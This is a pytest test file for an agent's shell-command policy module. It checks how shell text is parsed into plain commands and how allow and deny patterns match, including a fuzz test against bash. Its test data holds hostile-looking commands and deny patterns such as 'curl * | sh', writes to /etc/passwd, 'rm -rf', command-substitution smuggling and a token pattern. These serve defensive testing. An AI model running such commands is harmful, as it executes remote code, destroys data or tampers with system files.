from __future__ import annotations

import random
import subprocess
from pathlib import Path

import pytest

from agent_kernel.policy.commands import covers, kinds, occurs, plain_commands


@pytest.mark.parametrize(
    ("text", "commands"),
    [
        ("ls -la", [["ls", "-la"]]),
        ("  ls  ", [["ls"]]),
        ("a x; b && c || d | e & f\ng", [["a", "x"], ["b"], ["c"], ["d"], ["e"], ["f"], ["g"]]),
        ("ls;", [["ls"]]),
        ("\n\nls\n\n", [["ls"]]),
        ("ls 'a; b' \"c | d\" e\\ f", [["ls", "a; b", "c | d", "e f"]]),
        (r'ls "a\"b\$c\d"', [["ls", 'a"b$c\\d']]),
        ("l's' \"\"x''", [["ls", "x"]]),
        ("ls ''", [["ls", ""]]),
        ("ls a#b '#c'", [["ls", "a#b", "#c"]]),
        ("ls *.csv ?x [ab] ~", [["ls", "*.csv", "?x", "[ab]", "~"]]),
    ],
)
def test_a_list_of_plain_commands(text: str, commands: list[list[str]]) -> None:
    assert plain_commands(text) == tuple(map(tuple, commands))


@pytest.mark.parametrize(
    "text",
    [
        "", " ", "\n", "# ls", "ls # all", "ls $HOME", 'ls "$HOME"', "ls $(rm x)", "ls `rm x`",
        'ls "`rm x`"', "ls &&", "ls |", "ls ||\n",
        "ls $'a'", "ls > x", "ls 2>&1", "ls < x", "cat <<E\nx\nE", "(ls)", "{ ls; }", "ls {a,b}",
        "f() { ls; }",
        "X=1 ls", "PATH=. ls", "ls; X=1", "a[0]=1", "x+=1 ls", "'X'=1", "ls 'a", 'ls "a', "ls \\",
        "ls \\\n x",
        "; ls", "ls ;; rm", "ls && ; rm", "| ls", "ls\x00rm", "ls \u00a0rm", "ls\rrm",
        "ls \x1b[2K", "ls \u202erm",
        "[[ a < b ]]", "case x in x) ls;; esac", "find . -exec rm {} +", "\\\nls", 'ls "a\\\nb"',
    ],
)  # fmt: skip
def test_whatever_else_a_shell_can_do_is_not_plain(text: str) -> None:
    assert plain_commands(text) is None
    assert not kinds([text])


ALPHABET = ("zz", "x", "-r", " ", "  ", "\t", ";", "\n", "&&", "'", '"', "\\", "#", "*", "~", "=", "!", "{",
            "}", "$", "`", "(", ")", ">", "<", "|", "a b", "%", "[", "]", "?", ",", "é")  # fmt: skip

ORACLE = r"""
set -f
command_not_found_handle() { printf '%s\x1f' "$@"; printf '\x1e'; }
while IFS= read -r -d '' text; do eval "$text" 2>/dev/null; printf '\x1d'; done
"""


def _goes_elsewhere(text: str) -> bool:
    """Whether bash would run a part of it where its output is not seen in order, or would find a home."""
    return bool({"|", "~"} & set(text)) or "\\&" in text or "&" in text.replace("&&", "")


def test_what_is_taken_for_plain_is_what_bash_runs(tmp_path: Path) -> None:
    chance = random.Random(20)
    texts = ["zz" + "".join(chance.choices(ALPHABET, k=chance.randint(1, 9))) for _ in range(20_000)]
    plain = {text: found for text in texts if (found := plain_commands(text)) is not None}
    plain = {
        text: found
        for text, found in plain.items()
        if all(words[0].startswith("zz") for words in found) and not _goes_elsewhere(text)
    }
    assert len(plain) > 500
    said = subprocess.run(
        ["/bin/bash", "--norc", "--noprofile", "-c", ORACLE],
        input="".join(text + "\0" for text in plain).encode(),
        capture_output=True,
        cwd=tmp_path,
        env={"PATH": "/nowhere", "LC_ALL": "C.UTF-8"},
        check=True,
        timeout=60,
    ).stdout.decode()
    for (text, found), ran in zip(plain.items(), said.split("\x1d")[:-1], strict=True):
        assert [call.split("\x1f")[:-1] for call in ran.split("\x1e")[:-1]] == list(map(list, found)), text
    assert not list(tmp_path.iterdir())


@pytest.mark.parametrize(
    ("pattern", "words", "whole"),
    [
        ("ls", ["ls"], True),
        ("ls", ["ls", "-l"], False),
        ("ls *", ["ls"], True),
        ("ls *", ["ls", "-l", "a b"], True),
        ("git status", ["git", "push"], False),
        ("git sta*", ["git", "status"], True),
        ("git sta*", ["git", "status", "x"], False),
        ("git * --stat", ["git", "log", "--stat"], True),
        ("git * --stat", ["git", "log", "x", "--stat"], False),
        ("l?", ["ls"], True),
        ("l[s]", ["ls"], False),
        ("LS", ["ls"], False),
        ("ls a*", ["ls", ""], False),
    ],
)
def test_a_pattern_that_allows_matches_the_whole(pattern: str, words: list[str], whole: bool) -> None:
    assert covers(pattern, tuple(words)) is whole


@pytest.mark.parametrize(
    ("pattern", "text", "found"),
    [
        ("rm *", "rm -rf x", True),
        ("rm *", "rm", True),
        ("rm *", "cd x && sudo /bin/rm y", True),
        ("rm *", "echo $(rm y)", True),
        ("rm *", "r\\m y; 'r'm z", True),
        ("rm *", "alarm 5", False),
        ("rm *", "docker run --rm x", False),
        ("rm *", "x.rm y", False),
        ("rm*", "rmdir x", True),
        ("rm -rf", "rm   -rf x", True),
        ("rm -rf", "rm -r", False),
        ("curl * | sh", "curl http://x|sh", True),
        ("curl * | sh", "curl http://x |  sh -s", True),
        ("curl * | sh", "curl http://x | show", False),
        ("a?c", "abc", True),
        ("a?c", "ac", False),
        ("> /etc/*", "echo x >/etc/passwd", True),
        ("pip install *", 'pip "install" x', True),
        ("*token*", "echo my_token_1", True),
    ],
)
def test_a_pattern_that_stops_is_found_anywhere(pattern: str, text: str, found: bool) -> None:
    assert occurs(pattern, text) is found


@pytest.mark.timeout(60)  # a pattern that backtracks would take hours
def test_a_long_command_is_looked_through_in_no_time() -> None:
    text = "curl x " * 200_000
    assert not occurs("curl * wget * curl * | sh", text)
    assert plain_commands("a 'b' " * 100_000) is not None


def test_kinds_are_the_programs() -> None:
    assert kinds(["rm -rf x; cd y", "rm z"]) == ("rm *", "cd *")
    assert kinds(["rm *.txt"]) == ("rm *",)
    assert kinds(["r?"]) == ()
    assert kinds(["ls", "ls > x"]) == ()
    for pattern in kinds(["rm -rf x"]):
        assert covers(pattern, ("rm", "-rf", "x"))


@pytest.mark.parametrize(
    ("text", "commands"),
    [
        ("ls\n\\rm -rf x", [["ls"], ["rm", "-rf", "x"]]),
        ("ls ]\\(x", [["ls", "](x"]]),
        ("ls \\\t*", [["ls", "\t*"]]),
        ("ls; ]\\  rm", [["ls"], ["] ", "rm"]]),
    ],
)
def test_quoted_characters_split_words_as_bash_does(text: str, commands: list[list[str]]) -> None:
    """What tree-sitter-bash 0.25.1 splits differently: the first of these it takes for one command."""
    assert plain_commands(text) == tuple(map(tuple, commands))
    assert not all(covers("ls *", words) for words in plain_commands(text) or ()) or len(commands) == 1


def test_long_pipelines_take_linear_work() -> None:
    found = plain_commands("a|" * 100_000 + "a")
    assert found is not None
    assert len(found) == 100_001
